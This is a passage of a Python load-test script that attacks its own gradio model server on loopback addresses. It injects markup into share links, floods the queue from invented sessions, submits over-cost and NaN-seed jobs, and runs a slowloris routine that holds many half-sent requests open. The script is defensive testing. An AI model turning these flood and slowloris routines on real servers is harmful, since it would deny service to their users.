COUNTING_TOKENS = 20  # about (the tokenizer is the server's): the cost probe keeps 10 units of margin


def markup_counts(text: str) -> dict[str, int]:
    """How often each tag or attribute that could draw a form or a link occurs in ``text``."""
    lowered = text.lower()
    return {needle: lowered.count(needle) for needle in MARKUP}


class ElementCounter(HTMLParser):
    """The elements and attributes an HTML fragment really has (escaped text is text, not a tag)."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: collections.Counter[str] = collections.Counter()
        self.attributes: collections.Counter[str] = collections.Counter()

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.tags[tag] += 1
        self.attributes.update(name for name, _ in attrs)


def rendered_elements(fragment: str) -> dict:
    """What a browser would build from ``fragment``: its tags, and the forms, inputs, links and
    styled elements among them."""
    counter = ElementCounter()
    counter.feed(fragment)
    counter.close()
    return {"tags": sorted(counter.tags), "form": counter.tags["form"], "input": counter.tags["input"],
            "a": counter.tags["a"], "href": counter.attributes["href"], "style": counter.attributes["style"]}


def detail_text(text: str) -> str:
    """A refusal's message; a list of gradio validation items reads as "parameter: message"."""
    try:
        detail = json.loads(text).get("detail")
    except (ValueError, AttributeError):
        return message_of(text)
    if isinstance(detail, list):
        return "; ".join(f"{item.get('parameter_name')}: {item.get('message')}" for item in detail
                         if isinstance(item, dict))
    return message_of(text)


def page_event(url: str, api_name: str) -> tuple[int, list[str], list]:
    """(fn_index, setting names, values) of one page event from /config: each input's value on a
    fresh page (a control's elem_id is "setting-<name>")."""
    config = httpx.get(url.rstrip("/") + "/config", timeout=30).json()
    dependency = next(d for d in config["dependencies"] if d.get("api_name") == api_name)
    components = {c["id"]: c for c in config["components"]}
    names = [(components[i].get("props", {}).get("elem_id") or "").removeprefix("setting-").replace("-", "_")
             for i in dependency["inputs"]]
    values = [components[i].get("props", {}).get("value") for i in dependency["inputs"]]
    return dependency["id"], names, values


def with_settings(names: list[str], values: list, **overrides) -> list:
    return [overrides.get(name, value) for name, value in zip(names, values)]


def rendered_markdown(text: str) -> str:
    """The status line as a CommonMark renderer with raw HTML on draws it (gradio's Markdown keeps HTML)."""
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark", {"html": True}).render(text)


def hostile_link(url: str, fn_index: int, name: str, query: dict) -> dict:
    """One share link: the page's own load event (run/predict with the page's query, as the page's
    script sends it) gives the status line; the page itself gives the headers."""
    base = url.rstrip("/")
    with httpx.Client(timeout=30) as http:
        page = http.get(base + "/", params=query)
        started = time.time()
        response = http.post(base + "/gradio_api/run/predict", params=query,
                             json={"data": [], "fn_index": fn_index, "session_hash": f"link{len(name)}"})
        seconds = time.time() - started
    status = response.json().get("data", [""])[-1] if response.status_code == 200 else response.text
    status = status if isinstance(status, str) else json.dumps(status)
    return {"status_code": response.status_code, "seconds": round(seconds, 3), "status_line": status[:300],
            "markup_in_status_text": markup_counts(status), "rendered_status": rendered_elements(rendered_markdown(status)),
            "page_status": page.status_code,
            "page_headers": {h: page.headers.get(h) for h in SECURITY_HEADERS},
            "api_headers": {h: response.headers.get(h) for h in SECURITY_HEADERS[1:]}}


def hostile_links(url: str) -> dict:
    """Every hostile link of the issue: no tag or link of it survives, every response carries the headers."""
    fn_index, _, _ = page_event(url, "ui_from_link")
    links = {name: hostile_link(url, fn_index, name, query) for name, query in HOSTILE_LINKS.items()}
    survived = sum(link["markup_in_status_text"][needle] for link in links.values() for needle in MARKUP) + sum(
        link["rendered_status"][kind] for link in links.values() for kind in ("form", "input", "a", "href", "style"))
    headers_missing = [name for name, link in links.items() for h, v in link["page_headers"].items() if not v]
    return {"links": links, "tags_or_links_surviving": survived, "pages_missing_a_header": headers_missing}


class StreamReaders:
    """Reads SSE streams in daemon threads until stopped (bounded: each read ends with its stream,
    at stop, or at its client's read timeout)."""

    def __init__(self) -> None:
        self.stop = threading.Event()

    def _read(self, http: httpx.Client, path: str) -> None:
        try:
            with http.stream("GET", path) as response:
                for _ in response.iter_lines():
                    if self.stop.is_set():
                        return
        except httpx.HTTPError:
            return

    def start(self, http: httpx.Client, path: str) -> None:
        threading.Thread(target=self._read, args=(http, path), daemon=True).start()


def loopback_client(url: str, address: str, read_s: float = 120) -> httpx.Client:
    """An HTTP client whose connections come from ``address`` (a 127.x.y.z loopback address)."""
    if not address.startswith("127."):
        raise ValueError("loopback only")
    return httpx.Client(base_url=url.rstrip("/"), timeout=httpx.Timeout(30, read=read_s),
                        limits=httpx.Limits(max_connections=200),
                        transport=httpx.HTTPTransport(local_address=address))


def page_visitor_job(url: str, address: str, session: str, data: list, fn_index: int, to_end: bool = False) -> dict:
    """A visitor who loads the page (its page token), opens the heartbeat, then pushes one job: the
    wait from the push to its first message (``to_end``: also to the job's end, "job_s")."""
    readers = StreamReaders()
    with loopback_client(url, address) as visitor:
        loaded = visitor.get("/")
        readers.start(visitor, f"/gradio_api/heartbeat/{session}")
        time.sleep(1.0)  # the heartbeat is open, as a page's is before its first click
        pushed = time.time()
        joined = visitor.post("/gradio_api/queue/join", json={"data": data, "fn_index": fn_index, "session_hash": session})
        waited, first, job_s = None, joined.text[:300], None
        if joined.status_code == 200:
            waited, first, job_s, _ = event_times(visitor, session, pushed, 120, to_end)
        total = round(time.time() - pushed, 2)
        readers.stop.set()
    return {"page_token_set": PAGE_COOKIE in loaded.cookies, "joined": joined.status_code,
            "first_message_s": waited, "until_stream_read_s": total, "job_s": job_s, "first_event": first[:120]}


def event_times(http: httpx.Client, session: str, pushed: float, timeout: float,
                to_end: bool) -> tuple[float | None, str, float | None, str]:
    """(seconds to the first message, that message, seconds to the job's end or None, the end's
    message) on queue/data."""
    first, line_seen = None, ""
    with http.stream("GET", f"/gradio_api/queue/data?session_hash={session}") as response:
        for line in response.iter_lines():
            if first is None and ('"process_generating"' in line or '"process_completed"' in line):
                first, line_seen = round(time.time() - pushed, 2), line[:300]
                if not to_end:
                    break
            if '"process_completed"' in line:
                return first, line_seen, round(time.time() - pushed, 2), line
            if time.time() - pushed > timeout:
                break
    return first, line_seen, None, ""


def invented_sessions(url: str, sessions: int, rounds: int, visitor_job: dict) -> dict:
    """The issue's script on 127.0.0.1: ``sessions`` invented session ids, each with its heartbeat
    held open (no page load, so no page token), pushing jobs from all of them (``rounds`` rounds,
    reading every admitted job's stream) while a visitor on 127.0.0.2 who loaded the page pushes
    one job. Against the same visitor alone."""
    with httpx.Client(base_url=url, timeout=30) as http:
        fn_index = generate_fn_index(http)
    data = api_values(url, **visitor_job)
    alone = page_visitor_job(url, "127.0.0.2", "visitoralone", data, fn_index, to_end=True)
    readers, tally = StreamReaders(), collections.Counter()
    names = [f"invented{i:02d}" for i in range(sessions)]
    script = loopback_client(url, "127.0.0.1")
    for name in names:
        readers.start(script, f"/gradio_api/heartbeat/{name}")
    time.sleep(1.0)
    started = time.time()

    def flood() -> None:
        for _ in range(rounds):  # bounded: sessions x rounds pushes, and it stops once the visitor is served
            for name in names:
                if readers.stop.is_set():
                    return
                response = script.post("/gradio_api/queue/join",
                                       json={"data": data, "fn_index": fn_index, "session_hash": name})
                tally[response.status_code] += 1
                if response.status_code == 200:
                    readers.start(script, f"/gradio_api/queue/data?session_hash={name}")
            time.sleep(0.05)

    flooder = threading.Thread(target=flood, daemon=True)
    flooder.start()
    try:
        time.sleep(max(3.0, 2 * alone["until_stream_read_s"]))  # the flood is in full swing
        during = page_visitor_job(url, "127.0.0.2", "visitorflood", data, fn_index)
    finally:
        readers.stop.set()
        flooder.join(60)
        script.close()
    flood_s = round(time.time() - started, 1)
    time.sleep(3.0)  # the closed streams cancel the flood's jobs
    # the issue's bound: the running job plus one job of the script's client, then the visitor's first message
    bound = round(2 * (alone["job_s"] or alone["until_stream_read_s"]) + (alone["first_message_s"] or 0), 1)
    return {"script_sessions": sessions, "script_rounds_max": rounds, "job": visitor_job,
            "script_admitted": tally[200], "script_refused": sum(tally.values()) - tally[200],
            "script_by_status": {str(k): v for k, v in sorted(tally.items())}, "flood_seconds": flood_s,
            "visitor_alone": alone, "visitor_during_script": during,
            "bound_s": bound, "visitor_within_bound": during["first_message_s"] is not None
            and during["first_message_s"] <= bound}


def server_job_cost():
    """The server's own job-cost module (app/serving/job_cost.py: pure arithmetic, no torch or gradio)."""
    if str(ROOT) not in sys.path:
        sys.path.insert(0, str(ROOT))
    from app.serving import job_cost

    return job_cost


def server_settings():
    """The settings the server this script starts reads (model/common/settings.py: the same environment)."""
    if str(ROOT) not in sys.path:
        sys.path.insert(0, str(ROOT))
    from model.common.settings import settings

    return settings()


def job_cost_units(batch: int, prompt_tokens: int, new_tokens: int, lens: bool) -> int:
    return server_job_cost().job_cost(batch, prompt_tokens, new_tokens, lens)


def words_for_cost(batch: int, new_tokens: int, lens: bool, limit: int, template: int = PROMPT_TEMPLATE_TOKENS) -> int:
    """The most one-token words a prompt may have for the job to cost at most ``limit`` units
    (the chat template adds ``template`` tokens); 0 when even an empty prompt is over."""
    words = 0
    while words < 4000 and job_cost_units(batch, words + 1 + template, new_tokens, lens) <= limit:
        words += 1
    return words


WORST_JOBS = (dict(batch_size=1, max_new_tokens=256, lens=False),  # the longest run
              dict(batch_size=8, max_new_tokens=48, lens=False),  # the widest batch
              dict(batch_size=1, max_new_tokens=160, lens=True))  # the lens's readings
ISSUE_JOB_WORDS = 738  # + the chat template: the server counts a 768-token prompt
TINY_JOBS = (dict(batch_size=1, max_new_tokens=8, lens=False),)  # --tiny: a dry run of the probe


def timed_api_job(url: str, settings: dict, words: int) -> dict:
    """One job through gradio_client (a page-token-less API client), timed from submit to its end."""
    prompt = long_prompt("sea", words) + COUNTING if words else COUNTING.strip()
    client = Client(url, verbose=False)
    started = time.time()
    try:
        final = client.predict(prompt=prompt, target_speedup=2.0, temperature=0.0, **settings, api_name="/generate")
    except Exception as error:  # noqa: BLE001 (a refusal is recorded: the job was not admitted)
        return {**settings, "prompt_words": words, "admitted": False, "message": str(error)[:300],
                "seconds": round(time.time() - started, 2)}
    return {**settings, "prompt_words": words, "admitted": True, "seconds": round(time.time() - started, 2),
            "decode_steps": len(final.get("layers_per_step") or []) + 1}


def costliest_admitted(url: str, settings: dict, limit: int, tries: int = 3) -> dict:
    """The job of this kind with the longest prompt that fits the cap (10 units of margin for the
    token estimate), timed; a refused one is retried with 20% fewer words (``tries`` at most)."""
    words = words_for_cost(settings["batch_size"], settings["max_new_tokens"], settings["lens"], limit - 10,
                           PROMPT_TEMPLATE_TOKENS + COUNTING_TOKENS)
    for _ in range(tries):
        job = timed_api_job(url, settings, words)
        if job["admitted"] or words == 0:
            break
        words = int(words * 0.8)
    prompt_tokens = job["prompt_words"] + PROMPT_TEMPLATE_TOKENS + COUNTING_TOKENS
    return {**job, "cost_units_about": job_cost_units(job["batch_size"], prompt_tokens, job["max_new_tokens"], job["lens"])}


def job_cost_probe(url: str, server_limit: int, limit: int, worst: tuple[dict, ...]) -> dict:
    """The issue's batch 8 x (768 + 256) lens job: refused at once, how fast and with what message;
    then the costliest admitted job of each kind in ``worst`` (prompts sized to the cap), timed."""
    issue_job = dict(prompt=long_prompt("sea", ISSUE_JOB_WORDS), batch_size=8, max_new_tokens=256, lens=True)
    started = time.time()
    rest = httpx.post(url.rstrip("/") + "/gradio_api/call/generate", json={"data": api_values(url, **issue_job)}, timeout=30)
    rest_s = time.time() - started
    started = time.time()
    try:
        Client(url, verbose=False).predict(**issue_job, api_name="/generate")
        client_message, admitted = "", True
    except Exception as error:  # noqa: BLE001 (the expected refusal)
        client_message, admitted = str(error), False
    client_s = time.time() - started
    admitted_jobs = [costliest_admitted(url, settings, limit) for settings in worst]
    ran = [job for job in admitted_jobs if job["admitted"]]
    return {"issue_job": {"batch_size": 8, "prompt_tokens": 768, "max_new_tokens": 256, "lens": True,
                          "cost_units": job_cost_units(8, 768, 256, True), "server_limit_units": server_limit},
            "rest_status": rest.status_code, "rest_refused_in_s": round(rest_s, 3),
            "rest_message": detail_text(rest.text)[:400], "admitted_jobs_sized_to_units": limit, "gradio_client_refused": not admitted,
            "gradio_client_refused_in_s": round(client_s, 2), "gradio_client_message": client_message[:300],
            "costliest_admitted_jobs": admitted_jobs,
            "worst_admitted_wall_s": max((job["seconds"] for job in ran), default=None),
            "promised_s": round(server_limit * server_job_cost().UNIT_SECONDS, 2)}


def step_once(http: httpx.Client, session: str, fn_index: int, data: list, timeout: float = 120) -> str:
    """One press of Step in ``session``: the status line it answers (or the refusal)."""
    joined = http.post("/gradio_api/queue/join", json={"data": data, "fn_index": fn_index, "session_hash": session})
    if joined.status_code != 200:
        return f"refused {joined.status_code}: {message_of(joined.text)[:200]}"
    started = time.time()
    with http.stream("GET", f"/gradio_api/queue/data?session_hash={session}") as response:
        for line in response.iter_lines():
            if '"process_completed"' in line:
                event = json.loads(line.removeprefix("data:").strip())
                output = event.get("output", {})
                data_out = output.get("data") or [output.get("error") or ""]
                return str(data_out[0])[:300]
            if time.time() - started > timeout:
                break
    return "no answer"


class MemorySampler:
    """The server's RSS every 0.25 s in a daemon thread (bounded by ``limit_s``); the peak."""

    def __init__(self, process: psutil.Process | None, limit_s: float = 600) -> None:
        self.process, self.peak, self.stop = process, rss_mb(process), threading.Event()
        self.thread = threading.Thread(target=self._run, args=(limit_s,), daemon=True)
        self.thread.start()

    def _run(self, limit_s: float) -> None:
        deadline = time.time() + limit_s
        while self.process and not self.stop.is_set() and time.time() < deadline:
            self.peak = max(self.peak or 0, rss_mb(self.process) or 0)
            time.sleep(0.25)

    def finish(self) -> float | None:
        self.stop.set()
        self.thread.join(5)
        return self.peak


def step_mode_eviction(url: str, process: psutil.Process | None, script_sessions: int, prompt_words: int) -> dict:
    """A visitor on 127.0.0.2 steps once, then one script on 127.0.0.1 opens ``script_sessions`` step
    sessions (long prompts, lens on), then the visitor steps again: a "prefill" answer would mean its
    session was evicted and restarted. The server's RSS before, at peak and 10 s after."""
    fn_index, names, values = page_event(url, "ui_step")
    visitor_data = with_settings(names, values, prompt=PROMPTS[0], max_new_tokens=48)
    script_data = with_settings(names, values, prompt=long_prompt("sky", prompt_words) + COUNTING, max_new_tokens=48,
                                lens=True)
    before = rss_mb(process)
    sampler = MemorySampler(process)
    started = time.time()
    with loopback_client(url, "127.0.0.2") as visitor, loopback_client(url, "127.0.0.1") as script:
        first = step_once(visitor, "stepvisitor", fn_index, visitor_data)
        script_answers = [step_once(script, f"stepscript{i:02d}", fn_index, script_data) for i in range(script_sessions)]
        second = step_once(visitor, "stepvisitor", fn_index, visitor_data)
    seconds = round(time.time() - started, 1)
    peak = sampler.finish()
    time.sleep(10)
    return {"script_sessions": script_sessions, "script_prompt_words": prompt_words, "script_lens": True,
            "visitor_first_step": first, "visitor_second_step": second,
            "visitor_session_survived": second.startswith("step "),
            "script_steps_answered": sum(a.startswith("prefill") for a in script_answers),
            "script_answers": [a[:100] for a in script_answers], "seconds": seconds,
            "rss_mb_before": before, "rss_mb_peak": peak, "rss_mb_10s_after": rss_mb(process)}


def bad_numbers(url: str) -> dict:
    """A NaN seed on the page's own generate event, and order="random" on the API: status and the
    parameter each refusal names."""
    fn_index, names, values = page_event(url, "ui_generate")
    body = json.dumps({"data": with_settings(names, values, seed=float("nan")), "fn_index": fn_index,
                       "session_hash": "nanseed01"})  # NaN is not JSON: as a hostile client sends it
    nan = httpx.post(url.rstrip("/") + "/gradio_api/queue/join", content=body,
                     headers={"content-type": "application/json"}, timeout=30)
    order = httpx.post(url.rstrip("/") + "/gradio_api/call/generate",
                       json={"data": api_values(url, **VICTIM_JOB, order="random")}, timeout=30)
    detail = order.json().get("detail") if order.headers.get("content-type", "").startswith("application/json") else None
    named = [item.get("parameter_name") for item in detail] if isinstance(detail, list) else None
    nan_message = message_of(nan.text)
    found = re.search(r"\((\w+)\) must be", nan_message)
    return {"nan_seed": {"status": nan.status_code, "parameter_named": found.group(1) if found else None,
                         "message": nan_message[:200]},
            "order_random": {"status": order.status_code, "parameter_named": named, "message": order.text[:300]}}


def half_sent_socket(host: str, port: int) -> socket.socket:
    sock = socket.create_connection((host, port), timeout=10)
    sock.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")  # never the blank line that ends the headers
    sock.setblocking(False)
    return sock


def trickle_until_closed(sockets: list[socket.socket], started: float, limit_s: float) -> list[float | None]:
    """Send one header line a second on every socket (slowloris) until the server closes each one;
    the seconds after ``started`` at which each was closed (None: still open at ``limit_s``)."""
    closed: list[float | None] = [None] * len(sockets)
    while time.time() - started < limit_s and None in closed:
        for index, sock in enumerate(sockets):
            if closed[index] is not None:
                continue
            try:
                if sock.recv(4096) == b"":
                    closed[index] = round(time.time() - started, 1)
                    continue
            except BlockingIOError:
                pass
            except OSError:
                closed[index] = round(time.time() - started, 1)
                continue
            try:
                sock.send(b"X-Slow: 1\r\n")
            except OSError:
                closed[index] = round(time.time() - started, 1)
        time.sleep(1.0)
    return closed


def half_sent_requests(url: str, connections: int, deadline_s: float) -> dict:
    """``connections`` slowloris sockets trickling a header line a second and never ending their
    headers, and a visitor loading the page meanwhile: when the server closed each socket, and how
    long the visitor's page took."""
    host, port = url.split("//", 1)[1].rstrip("/").split(":")
    started = time.time()
    sockets = [half_sent_socket(host, int(port)) for _ in range(connections)]
    visitor: dict = {}

    def visit() -> None:
        time.sleep(2)
        began = time.time()
        answer = httpx.get(url, timeout=60)
        visitor.update(status=answer.status_code, seconds=round(time.time() - began, 2))

    thread = threading.Thread(target=visit)
    thread.start()
    closed = trickle_until_closed(sockets, started, deadline_s + 30)
    thread.join()
    for sock in sockets:
        sock.close()
    done = [c for c in closed if c is not None]
    return {"connections": connections, "trickle": "one header line a second, never the blank line",
            "server_read_deadline_s": deadline_s, "closed": len(done), "still_open": len(closed) - len(done),
            "closed_after_s_min": min(done, default=None), "closed_after_s_max": max(done, default=None),
            "visitor_page_during": visitor}


def cpu_flags() -> list[str]:
    """The flags that decide the kernels (AVX2, AVX-512 and its extensions, AMX), as the bench names them."""
    if str(ROOT) not in sys.path:  # run as `python scripts/load_test.py`: the repository root is not on the path
        sys.path.insert(0, str(ROOT))
    from model.common.hardware import cpu_flags as vector_flags  # noqa: PLC0415 (importable once the root is)

    return vector_flags()


def page_attacks(url: str, process: psutil.Process | None, args: argparse.Namespace) -> dict:
    """The attacks through the page's own ways in (issue 37), each through the launched app on loopback."""
    tiny = args.tiny
    load_before = [round(x, 2) for x in os.getloadavg()]
    started = time.time()
    rss_start = rss_mb(process)
    report = {
        "command": command_line(), "date": time.strftime("%Y-%m-%d %H:%M UTC", time.gmtime()),
        "hardware": {**hardware(), "cpu_flags": cpu_flags()},
        "share_links": hostile_links(url),
        "invented_heartbeat_sessions": invented_sessions(url, 2 if tiny else 16, 2 if tiny else 20,
                                                         dict(prompt=PROMPTS[0], target_speedup=2.0,
                                                              max_new_tokens=8 if tiny else 32)),
        "job_cost": job_cost_probe(url, args.max_job_cost, 60 if tiny else args.max_job_cost,
                                   TINY_JOBS if tiny else WORST_JOBS),
        "step_mode": step_mode_eviction(url, process, 2 if tiny else 6, 20 if tiny else 500),
        "bad_numbers": bad_numbers(url),
        "half_sent_requests": half_sent_requests(url, 10 if tiny else 200, READ_DEADLINE_S),
    }
    time.sleep(10)
    report["memory"] = {"rss_mb_round_start": rss_start, "rss_mb_10s_after_round": rss_mb(process),
                        "held_by_design": "step-mode sessions (the script's and the visitor's) keep their KV "
                                          "caches until evicted, their page closes or 10 idle minutes"}
    load_after = [round(x, 2) for x in os.getloadavg()]
    report["seconds"] = round(time.time() - started, 1)
    report["load_average"] = {"before_1_5_15_min": load_before, "after_1_5_15_min": load_after}
    if max(load_before[0], load_after[0]) > 1.5:
        report["note"] = ("the machine was shared with a test suite and a training job during this run "
                          "(load average above 1.5): wall times are slower than on a quiet machine")
    return report


def command_line() -> str:
    threads = os.environ.get("OMP_NUM_THREADS")
    prefix = f"OMP_NUM_THREADS={threads} " if threads else ""
    prefix += "HF_HUB_OFFLINE=1 " if os.environ.get("HF_HUB_OFFLINE") == "1" else ""
    return prefix + "python " + " ".join(sys.argv)


def memory_report(before: float | None, after: float | None, idle: float | None) -> dict:
    within = round(abs(idle - before) / before * 100, 1) if before and idle else None
    return {"rss_mb_before": before, "rss_mb_after_mix": after, "rss_mb_after_10s_idle": idle,
            "idle_vs_before_percent": within, "target_percent": 5.0}


def run_hostile(url: str, server: subprocess.Popen | None, args: argparse.Namespace) -> int:
    """The hostile mix, then its report; exit status 1 when a target is missed."""
    started = time.time()
    process = psutil.Process(server.pid) if server else None
    log = ServerLog(server)
    Client(url, verbose=False).predict(prompt=PROMPTS[0], max_new_tokens=args.max_new_tokens, api_name="/generate")
    time.sleep(2)
    before = rss_mb(process)
    observations = Observations()

    def long_words(new_tokens: int) -> int:  # the longest prompt the server admits for such a job
        return min(args.prompt_words, words_for_cost(1, new_tokens, False, args.max_job_cost))

    storm = cancel_storm(url, process, observations, jobs=5, words=long_words(64), max_new_tokens=64)
    sessions = long_sessions(url, observations, sessions=3, words=long_words(8), max_new_tokens=8)
    rest = rest_refusals(url, observations)
    flood = queue_flood(url, observations, submissions=20, queue_size=args.queue_size, words=long_words(8))
    victim = rest_flood_victim(url, observations)
    previews = preview_storm(url, observations)
    after = rss_mb(process)
    time.sleep(10)
    missing = observations.without_message()
    report = {
        "mode": "hostile", "command": command_line(), "url": url, "hardware": hardware(),
        "memory": memory_report(before, after, rss_mb(process)),
        "cancel_storm": storm, "long_sessions": sessions, "rest_refusals": rest, "queue_flood": flood,
        "rest_flood_and_victim": victim, "preview_storm": previews,
        "errors_without_message": {"count": len(missing), "target": 0, "examples": missing[:10],
                                   "answers_checked": len(observations.items),
                                   "local_cancelled_errors_not_counted": observations.local_cancellations},
        "server_stderr": log.report(),
        "seconds": round(time.time() - started, 1),
    }
    report["page_attacks"] = page_attacks(url, process, args)
    report["event_fuzz"] = run_event_fuzz(url, log, args.fuzz_seconds)
    report["targets_missed"] = (missed_targets(report) + missed_page_attacks(report["page_attacks"])
                                + report["event_fuzz"]["targets_missed"])
    print(json.dumps(report, indent=2))
    Path(args.json or HOSTILE_JSON).write_text(json.dumps(report, indent=2) + "\n")
    return 1 if report["targets_missed"] else 0


def run_page_attacks(url: str, server: subprocess.Popen | None, args: argparse.Namespace) -> int:
    """Only the page attacks; their figures go under "page_attacks" of the JSON, its other keys kept
    (--tiny: a dry run with tiny counts, written only where --json says)."""
    process = psutil.Process(server.pid) if server else None
    log = ServerLog(server)
    Client(url, verbose=False).predict(prompt=PROMPTS[0], max_new_tokens=args.max_new_tokens, api_name="/generate")
    time.sleep(2)
    report = page_attacks(url, process, args)
    report["server_stderr"] = log.report()
    report["targets_missed"] = missed_page_attacks(report)
    print(json.dumps(report, indent=2))
    path = Path(args.json) if args.json else (None if args.tiny else HOSTILE_JSON)
    if path is not None:
        existing = json.loads(path.read_text()) if path.exists() else {}
        path.write_text(json.dumps(existing | {"page_attacks": report}, indent=2) + "\n")
    return 1 if report["targets_missed"] else 0


def hostile_events_module():
    """scripts/hostile_events.py (also imported by the tests), loaded by path: this file runs as a script."""
    import importlib.util

    spec = importlib.util.spec_from_file_location("hostile_events", Path(__file__).with_name("hostile_events.py"))
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module  # its dataclasses look their module up
    spec.loader.exec_module(module)
    return module


def run_event_fuzz(url: str, log: ServerLog, fuzz_seconds: float) -> dict:
    """The hostile page events' probes and fuzz (issue 54); the server's tracebacks while they ran (target 0)."""
    script = hostile_events_module()
    tracebacks_before = log.tracebacks
    report = {"command": command_line(), "date": time.strftime("%Y-%m-%d %H:%M UTC", time.gmtime()),
              "hardware": {**hardware(), "cpu_flags": cpu_flags()}, "load_average_before": os.getloadavg()[0],
              **script.probe_and_fuzz(url, fuzz_seconds)}
    report["server_tracebacks"] = log.tracebacks - tracebacks_before
    report["targets_missed"] = script.missed(report) + (
        [f"{report['server_tracebacks']} tracebacks in the server's log"] if report["server_tracebacks"] else [])
    return report


def run_event_fuzz_only(url: str, server: subprocess.Popen | None, args: argparse.Namespace) -> int:
    """Only the hostile page events; written under "event_fuzz" of the JSON, its other keys kept."""
    log = ServerLog(server)
    Client(url, verbose=False).predict(prompt=PROMPTS[0], max_new_tokens=args.max_new_tokens, api_name="/generate")
    report = run_event_fuzz(url, log, args.fuzz_seconds)
    report["server_stderr"] = log.report()
    print(json.dumps(report, indent=2))
    path = Path(args.json) if args.json else HOSTILE_JSON
    existing = json.loads(path.read_text()) if path.exists() else {}
    path.write_text(json.dumps(existing | {"event_fuzz": report}, indent=2) + "\n")
    return 1 if report["targets_missed"] else 0


def missed_page_attacks(report: dict) -> list[str]:
    """The page attacks' targets this run missed, in words."""
    missed = []
    links = report["share_links"]
    if links["tags_or_links_surviving"] or links["pages_missing_a_header"]:
        missed.append(f"share links: {links['tags_or_links_surviving']} tags/links survived, "
                      f"headers missing on {links['pages_missing_a_header']}")
    sessions = report["invented_heartbeat_sessions"]
    if not sessions["visitor_within_bound"]:
        missed.append(f"the visitor waited {sessions['visitor_during_script']['first_message_s']} s beside the invented "
                      f"sessions (bound {sessions['bound_s']} s)")
    cost = report["job_cost"]
    if not cost["gradio_client_refused"] or cost["rest_status"] != 422:
        missed.append(f"the issue's job was not refused (REST {cost['rest_status']})")
    # The promise is the lane's hold on a quiet CPU (lab/serving/calibrate_job_cost.py); through this loopback
    # server the load test's own client and gradio's streaming share the two cores with torch's two
    # threads, which measured up to 2.2x the in-lane time: 2.5x is the bound a regression must cross.
    if (cost["worst_admitted_wall_s"] or 0) > 2.5 * cost["promised_s"]:
        missed.append(f"the costliest admitted job took {cost['worst_admitted_wall_s']} s (promised about "
                      f"{cost['promised_s']} s)")
    if not report["step_mode"]["visitor_session_survived"]:
        missed.append(f"the visitor's step session did not survive: {report['step_mode']['visitor_second_step']!r}")
    slow = report["half_sent_requests"]
    if slow["still_open"] or (slow["closed_after_s_max"] or 0) > slow["server_read_deadline_s"] + 5:
        missed.append(f"half-sent requests: {slow['still_open']} still open, the last closed after "
                      f"{slow['closed_after_s_max']} s (deadline {slow['server_read_deadline_s']} s)")
    if slow["visitor_page_during"].get("status") != 200:
        missed.append(f"the visitor's page beside the half-sent requests: {slow['visitor_page_during']}")
    bad = report["bad_numbers"]
    if bad["nan_seed"]["status"] != 422 or bad["nan_seed"]["parameter_named"] != "seed":
        missed.append(f"NaN seed: {bad['nan_seed']}")
    if bad["order_random"]["status"] != 422 or bad["order_random"]["parameter_named"] != ["order"]:
        missed.append(f"order=random: {bad['order_random']['status']} naming {bad['order_random']['parameter_named']}")
    return missed


def missed_targets(report: dict) -> list[str]:
    """The targets of the hostile mix that this run missed, in words."""
    missed = []
    cpu = report["cancel_storm"]["server_cpu_s_in_window_2_to_7_s_after_last_cancel"]
    if not report["cancel_storm"]["cancelled_while_processing"]:
        missed.append("the cancel storm cancelled no job while it ran (its CPU figure measures nothing)")
    sessions = report["long_sessions"]
    if sessions["finished_ok"] < sessions["sessions"]:
        missed.append(f"{sessions['sessions'] - sessions['finished_ok']} of {sessions['sessions']} long sessions "
                      f"did not finish normally")
    if not report["queue_flood"]["while_another_job_runs"]:
        missed.append("the queue flood's runner was not running during the flood")
    if cpu is not None and cpu >= 0.5:
        missed.append(f"server CPU after the last cancel {cpu} s >= 0.5 s")
    drift = report["memory"]["idle_vs_before_percent"]
    if drift is not None and drift > 5.0:
        missed.append(f"RSS after idle {drift}% away from the baseline (> 5%)")
    refused = {name: probe["status"] for name, probe in report["rest_refusals"].items() if not probe["refused"]}
    if refused:
        missed.append(f"REST calls not refused: {refused}")
    if report["errors_without_message"]["count"]:
        missed.append(f"{report['errors_without_message']['count']} errors without a message")
    second = report["queue_flood"]["second_client"]
    if not second.get("ok"):
        missed.append("the second client got no normal answer after the flood")
    victim = report["rest_flood_and_victim"]
    if not victim["victim_within_bound"]:
        missed.append(f"the visitor's first message under the REST flood took {victim['under_flood']['first_message_s']}"
                      f" s (bound {victim['bound_s']} s)")
    return missed


STREAM_OVERHEAD_JSON = ROOT / "assets" / "load" / "stream_overhead.json"
STREAM_TARGET = 1.15  # issue #51: the 256-token job through the server within 1.15x of in-process


def stream_job_values(limit: int) -> dict:
    """The 256-token job of the cost probe (WORST_JOBS[0]): its prompt sized to the cap, greedy."""
    settings = WORST_JOBS[0]
    words = words_for_cost(settings["batch_size"], settings["max_new_tokens"], settings["lens"], limit - 10,
                           PROMPT_TEMPLATE_TOKENS + COUNTING_TOKENS)
    return dict(prompt=long_prompt("sea", words) + COUNTING, target_speedup=2.0, temperature=0.0, **settings)


def in_process_job(playground, values: dict) -> dict:
    """The job through the API's handler in this process: seconds, CPU seconds (this process),
    messages, decode steps."""
    me = psutil.Process()
    started, cpu = time.perf_counter(), cpu_seconds(me)
    messages = list(playground.api_stream(values))
    return {"seconds": round(time.perf_counter() - started, 3), "cpu_s": round(cpu_seconds(me) - cpu, 3),
            "messages": len(messages), "decode_steps": len(messages[-1]["layers_per_step"])}


def server_job(url: str, values: dict, process: psutil.Process | None = None) -> dict:
    """The job through a running server with gradio_client, from submit to its last message; with
    the server's ``process``, its CPU seconds meanwhile (and the client's, this process's, apart)."""
    client, me = Client(url, verbose=False), psutil.Process()
    started, cpu, client_cpu = time.perf_counter(), cpu_seconds(process) if process else None, cpu_seconds(me)
    job = client.submit(**values, api_name="/generate")
    final = job.result(timeout=300)
    seconds = round(time.perf_counter() - started, 3)
    return {"seconds": seconds, "cpu_s": round(cpu_seconds(process) - cpu, 3) if process and cpu is not None else None,
            "client_cpu_s": round(cpu_seconds(me) - client_cpu, 3), "messages": len(job.outputs()),
            "decode_steps": len(final["layers_per_step"])}


def run_stream_overhead(url: str, server: subprocess.Popen | None, args: argparse.Namespace) -> int:
    """Side by side, alternately: the job in this process and through the server (see the docstring)."""
    import torch  # noqa: PLC0415 - only this mode loads the model here

